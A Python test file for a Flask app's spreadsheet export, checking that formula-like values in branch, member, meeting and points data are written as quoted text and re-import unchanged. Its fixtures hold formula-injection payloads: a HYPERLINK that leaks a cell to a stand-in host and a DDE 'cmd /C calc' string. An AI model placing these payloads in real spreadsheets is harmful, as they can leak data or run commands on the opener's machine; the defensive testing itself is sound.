"""Exports and templates write formula-like values as text, and they import back unchanged."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

from flask import Flask
from openpyxl import Workbook, load_workbook

from core.db import db
from profiles.enums import Attendance
from profiles.models import PartyGroup, PointsEntry
from sheets.columns import COLUMNS
from sheets.importers.meetings import import_meetings
from sheets.importers.members import import_members
from sheets.importers.points import import_points
from sheets.writing.export import export_branch
from sheets.writing.safe_text import write_as_text
from sheets.writing.templates import write_template
from tests.helpers import factories
from tests.helpers.dates import TODAY

LEAK = '=HYPERLINK("http://x/?"&F3,"张三")'
HOSTILE = {"branch": "=1+1", "member": LEAK, "group": "@SUM(A1:A9)",
           "topic": "+cmd|' /C calc'!A0", "reason": "-2+3 缺席", "by": "=2*3"}


def _no_formulas(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def _seed() -> None:
    branch = factories.make_branch(code="ZBX", name=HOSTILE["branch"], groups=0)
    group = PartyGroup(branch_id=branch.id, name=HOSTILE["group"])
    db.session.add(group)
    db.session.flush()
    member = factories.make_member(branch, name=HOSTILE["member"], group_id=group.id)
    factories.make_meeting(branch, topic=HOSTILE["topic"],
                           attendance={member: Attendance.PRESENT})
    db.session.add(PointsEntry(member_id=member.id, recorded_on=dt.date(2026, 5, 10), points=-2,
                               reason=HOSTILE["reason"], recorded_by=HOSTILE["by"]))
    db.session.commit()


def test_export_writes_formula_like_values_as_text_and_they_round_trip(
        app: Flask, tmp_path: Path) -> None:
    path = tmp_path / "zbx.xlsx"
    with app.app_context():
        _seed()
        export_branch("ZBX", path, TODAY)
    _no_formulas(path)
    workbook = load_workbook(path)
    seen = set()
    for ws in workbook.worksheets:
        assert ws["A1"].data_type == "s" and ws["A1"].value.startswith("=1+1 ")
        for row in ws.iter_rows(min_row=3):
            for cell in row:
                if isinstance(cell.value, str) and cell.value in HOSTILE.values():
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    seen.add(cell.value)
    assert seen == set(HOSTILE.values())
    # Re-importing the export changes nothing: every value read back as it was written.
    with app.app_context():
        assert not import_members(path, today=TODAY).changes
        assert not import_meetings(path).changes
        assert not import_points(path).changes
        assert db.session.scalar(db.select(PointsEntry.reason)) == HOSTILE["reason"]


def test_templates_hold_no_formulas(tmp_path: Path) -> None:
    for kind in COLUMNS:
        path = tmp_path / f"{kind}.xlsx"
        write_template(kind, path)
        _no_formulas(path)


def test_every_formula_start_becomes_text() -> None:
    ws = Workbook().active
    values = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "张三", "-", "a=b"]
    ws.append(values)
    assert write_as_text(ws) == 7  # a lone "-" (a usual "none") is quoted too: harmless
    assert [c.data_type for c in ws[1]] == ["s"] * len(values)
    assert [bool(c.quotePrefix) for c in ws[1]] == [True] * 6 + [False, True, False]
    assert [c.value for c in ws[1]] == values
